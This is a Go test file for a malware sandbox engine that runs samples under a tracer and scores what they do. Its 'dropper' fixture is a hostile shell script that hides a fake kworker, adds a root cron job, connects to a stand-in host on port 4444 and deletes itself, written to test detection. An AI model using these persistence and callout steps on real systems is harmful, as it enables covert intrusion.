package jail

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"tyto/finding"
	"tyto/sandbox"
	"tyto/verdict"
)

// tracerWord makes the test's own program the tracer.
const tracerWord = "jail-tracer"

func TestMain(m *testing.M) {
	if slices.Contains(os.Args, tracerWord) {
		if err := Serve(os.Stdin, os.Stdout); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		// Not os.Exit, with which the race detector waits for a second. Nobody looks at how the tracer ends when
		// it has answered.
		syscall.Kill(os.Getpid(), syscall.SIGKILL)
	}
	if i := slices.Index(os.Args, serverWord); i > 0 {
		if err := serveOne(os.Args[i+1], os.Args[i+2]); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		os.Exit(0)
	}
	os.Exit(m.Run())
}

// newEngine returns an engine, or skips the test where this computer has no jail, which fails under CI.
func newEngine(t *testing.T, o Options) *Engine {
	t.Helper()
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	o.Tracer = []string{exe, tracerWord}
	e, err := New(t.Context(), o)
	if errors.Is(err, ErrNoBubblewrap) && os.Getenv("CI") == "" {
		t.Skipf("no jail here: %v", err)
	}
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// compile makes a program of C source.
func compile(t *testing.T, source string, flags ...string) []byte {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "a.c"), []byte(source), 0o600); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "a")
	args := append([]string{"-O1", "-w", "-D_GNU_SOURCE", "-o", out, filepath.Join(dir, "a.c")}, flags...)
	if said, err := exec.Command("cc", args...).CombinedOutput(); err != nil {
		t.Fatalf("cc: %v\n%s", err, said)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// sample puts a content where a server keeps one.
func sample(t *testing.T, name string, content []byte) sandbox.Sample {
	t.Helper()
	sum := sha256.Sum256(content)
	s := sandbox.Sample{Name: name, Size: int64(len(content)), SHA256: hex.EncodeToString(sum[:])}
	s.Path = filepath.Join(t.TempDir(), s.SHA256)
	if err := os.WriteFile(s.Path, content, 0o400); err != nil {
		t.Fatal(err)
	}
	return s
}

func examine(t *testing.T, e *Engine, name string, content []byte) *sandbox.Seen {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	seen, err := e.Examine(ctx, sample(t, name, content))
	if err != nil {
		t.Fatal(err)
	}
	return seen
}

// needed returns a script, or skips the test where an interpreter that it uses is missing, which fails under CI.
func needed(t *testing.T, script string) []byte {
	t.Helper()
	for _, name := range []string{"python3", "perl"} {
		if _, err := os.Stat("/usr/bin/" + name); err != nil && strings.Contains(script, name) {
			if os.Getenv("CI") != "" {
				t.Fatalf("%v: scripts/install-deps.sh tests installs it", err)
			}
			t.Skip(err)
		}
	}
	return []byte(script)
}

func score(seen *sandbox.Seen) float64 {
	var subs []int
	for _, b := range seen.Behaviours {
		subs = append(subs, b.Score)
	}
	return finding.Score(subs)
}

func describe(seen *sandbox.Seen) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%.1f  %s\n", score(seen), seen.Engine.Saw)
	for _, x := range seen.Behaviours {
		fmt.Fprintf(&b, "  %3d %-24s %s %q\n", x.Score, x.ID, x.Detail, x.Evidence)
	}
	return b.String()
}

const dropper = `#!/bin/sh
mkdir -p /tmp/.cache-x
printf '#!/bin/sh\nsleep 3600\ncat /etc/hostname\n' > /tmp/.cache-x/kworker
chmod +x /tmp/.cache-x/kworker
echo "* * * * * root /tmp/.cache-x/kworker" > /etc/cron.d/update
/tmp/.cache-x/kworker &
python3 -c 'import socket; s=socket.socket(); s.connect(("203.0.113.66",4444))' 2>/dev/null
rm -f "$0"
`

func TestDropperIsMalicious(t *testing.T) {
	seen := examine(t, newEngine(t, Options{}), "invoice.sh", needed(t, dropper))
	t.Log(describe(seen))
	if got := score(seen); got < 80 {
		t.Errorf("score %.1f, want at least 80", got)
	}
}

// What a sample copied from the system is marked: programs of packages, files that packages made when they were
// installed and that belong to none, and decoys. What it wrote itself is not, nor what it changed.
func TestCopiesOfTheSystem(t *testing.T) {
	e := newEngine(t, Options{})
	seen := examine(t, e, "copy.sh", []byte(`#!/bin/sh
mkdir -p ~/.cache/.x; cd ~/.cache/.x
cp /usr/bin/env program
cp /usr/share/mime/mime.cache owned-by-nobody 2>/dev/null
cp ~/Documents/diary.txt decoy
cp /usr/bin/env gone && rm gone
{ cat /usr/bin/env; echo x; } > changed
echo "this is no file of the system" > own
`))
	got := map[string]bool{}
	for _, d := range seen.Dropped {
		got[filepath.Base(d.Path)] = d.System
	}
	want := map[string]bool{"program": true, "decoy": true, "gone": true, "changed": false, "own": false}
	if _, ok := got["owned-by-nobody"]; ok {
		want["owned-by-nobody"] = true
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("marked as the system's (-want +got):\n%s", diff)
	}
}

// What cannot be compared within the bounds is counted, and is not taken for the system's. A file that was
// updated since its size was noted is read again.
func TestSystemIsBounded(t *testing.T) {
	folder := t.TempDir()
	path := filepath.Join(folder, "program")
	write := func(content string) verdict.Dropped {
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		return verdict.Dropped{Path: "/tmp/x", Size: int64(len(content)), SHA256: digest([]byte(content))}
	}
	s := &system{folders: []string{folder}}
	first := []verdict.Dropped{write(strings.Repeat("old", 100))}
	if left := s.mark(t.Context(), first); left != 0 || !first[0].System {
		t.Errorf("the file is the system's: %v, %d left", first[0].System, left)
	}
	second := []verdict.Dropped{write(strings.Repeat("new", 100))}
	if err := os.Chtimes(path, time.Time{}, time.Unix(1, 0)); err != nil {
		t.Fatal(err)
	}
	if left := s.mark(t.Context(), second); left != 0 || !second[0].System {
		t.Errorf("the updated file is the system's: %v, %d left", second[0].System, left)
	}
	ended, end := context.WithCancel(t.Context())
	end()
	third := []verdict.Dropped{{Path: "/tmp/y", Size: 300, SHA256: first[0].SHA256}}
	if left := s.mark(ended, third); left != 1 || third[0].System {
		t.Errorf("without time the file is the system's: %v, %d left, want false and 1", third[0].System, left)
	}
}
